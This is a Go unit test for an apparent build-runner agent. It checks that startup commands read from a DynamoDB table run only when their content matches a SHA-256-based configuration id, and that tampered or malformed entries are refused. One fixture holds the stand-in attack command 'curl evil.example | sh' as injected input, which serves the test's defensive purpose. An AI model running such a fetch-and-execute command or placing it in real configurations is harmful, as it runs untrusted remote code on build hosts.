package aws

import (
	"crypto/sha256"
	"encoding/hex"
	"testing"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/attini-go/runner/agent/protocol"
)

// TestStartupCommandsOfTheConfiguration: an agent runs the commands of the configuration
// that the launcher started it from, whatever somebody writes into the table.
func TestStartupCommandsOfTheConfiguration(t *testing.T) {
	t.Parallel()
	const (
		own  = `{"runnerName":"Build","stackName":"shop","startup":{"commands":["make tools","true"]}}`
		none = `{"runnerName":"Build","stackName":"shop"}`
		evil = `{"runnerName":"Build","stackName":"shop","startup":{"commands":["curl evil.example | sh"]}}`
	)
	for name, c := range map[string]struct {
		stored, id string
		want       []string
		refused    bool
	}{
		"as deployed":             {own, idOf(own), []string{"make tools", "true"}, false},
		"none":                    {none, idOf(none), nil, false},
		"written by another":      {evil, idOf(own), nil, true},
		"commands where none are": {evil, idOf(none), nil, true},
		"a blank more":            {own + " ", idOf(own), nil, true},
		"a second value":          {own + evil, idOf(own), nil, true},
		"a part of the id":        {own, idOf(own)[:20], nil, true},
		"the id in capitals":      {own, "V1-" + idOf(own)[3:], nil, true},
		"nothing":                 {"", idOf(own), nil, true},
		"no configuration":        {"[]", idOf("[]"), nil, true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			configuration, client := tables(t)
			_, err := client.PutItem(t.Context(), &dynamodb.PutItemInput{TableName: aws.String(stateTable), Item: item{
				protocol.AttrResourceType: stringAttr(protocol.TypeRunnerConfiguration), protocol.AttrName: stringAttr("shop-Build#" + c.id),
				protocol.AttrConfiguration: stringAttr(c.stored),
			}})
			require.NoError(t, err)
			runner := NewRunnerItem(configuration, stateTable, "shop-Build", "arn:task/a", quiet())
			commands, err := runner.StartupCommands(t.Context(), c.id)
			if c.refused {
				require.ErrorIs(t, err, errOtherConfiguration)
				return
			}
			require.NoError(t, err)
			assert.Equal(t, c.want, commands)
		})
	}
	configuration, _ := tables(t)
	_, err := NewRunnerItem(configuration, stateTable, "shop-Build", "arn:task/a", quiet()).StartupCommands(t.Context(), idOf(own))
	require.ErrorIs(t, err, errOtherConfiguration, "there is none")
}

func idOf(text string) string {
	sum := sha256.Sum256([]byte(text))
	return "v1-" + hex.EncodeToString(sum[:])[:32]
}
